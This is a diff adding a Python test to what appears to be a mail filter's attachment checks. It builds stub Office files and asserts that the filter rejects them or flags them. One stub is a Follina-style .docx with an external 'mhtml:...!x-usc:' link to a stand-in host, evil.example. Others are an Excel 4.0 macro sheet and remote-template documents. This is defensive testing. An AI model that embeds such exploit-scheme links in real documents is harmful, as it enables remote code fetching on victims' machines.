@@ -337,6 +337,55 @@ def test_attachment_policy(content):
     assert "ATTACH_MACRO" in log[3][2]
 
 
+DOCX = ("application/vnd.openxmlformats-officedocument."
+        "wordprocessingml.document")
+
+
+def rels(*relationships):
+    return (b'<?xml version="1.0"?><Relationships xmlns="http://schemas.'
+            b'openxmlformats.org/package/2006/relationships">' +
+            b"".join(b'<Relationship Id="rId%d" Type="http://schemas.'
+                     b"openxmlformats.org/officeDocument/2006/relationships/"
+                     b'%s" Target="%s" TargetMode="External"/>' % (i, t, g)
+                     for i, (t, g) in enumerate(relationships)) +
+            b"</Relationships>")
+
+
+def test_office_links_and_macro_sheets(content):
+    """What an Office document does when it opens, without VBA: an
+    external link in an exploit scheme (Follina's ms-msdt:, mhtml: with
+    !x-usc:) is refused, an Excel 4.0 macro sheet is refused as a macro,
+    a template fetched from a server is delivered with its symbol, and the
+    local template Word records is nothing."""
+    follina = zip_of([("[Content_Types].xml", b"<Types/>"),
+                      ("word/document.xml", b"<w:document/>"),
+                      ("word/_rels/document.xml.rels", rels(
+                          (b"hyperlink", b"https://www.example.com/"),
+                          (b"oleObject", b"mhtml:https://evil.example/x!"
+                           b"x-usc:https://evil.example/x")))])
+    code, text = send(content, mail([("offer.docx", follina, DOCX)]))
+    assert code == 554 and "offer.docx" in text and "mhtml:" in text, text
+    xlm = zip_of([("[Content_Types].xml", b"<Types/>"),
+                  ("xl/workbook.xml", b"<workbook/>"),
+                  ("xl/macrosheets/sheet1.xml", b"<xm:macrosheet/>")])
+    code, text = send(content, mail([("q3.xlsx", xlm,
+                                      "application/vnd.ms-excel")]))
+    assert code == 554 and "macros" in text, text
+    for target in (b"https://templates.example/t.dotm",
+                   b"file:///C:/Users/a/Templates/Normal.dotm"):
+        doc = zip_of([("[Content_Types].xml", b"<Types/>"),
+                      ("word/document.xml", b"<w:document/>"),
+                      ("word/_rels/settings.xml.rels",
+                       rels((b"attachedTemplate", target)))])
+        code, text = send(content, mail([("memo.docx", doc, DOCX)]))
+        assert code == 250, text
+    log = message_log(content, 4)
+    assert "ATTACH_EXPLOIT_LINK" in log[0][2], log
+    assert "ATTACH_MACRO" in log[1][2], log
+    assert "ATTACH_REMOTE_TEMPLATE" in log[2][2], log
+    assert not [s for s in log[3][2] if s.startswith("ATTACH_")], log
+
+
 def test_attachment_quarantine_and_custom_list(moat_factory):
     moat = moat_factory({"filters": "attachments",
                          "filter.attachments.extensions": "xyz",
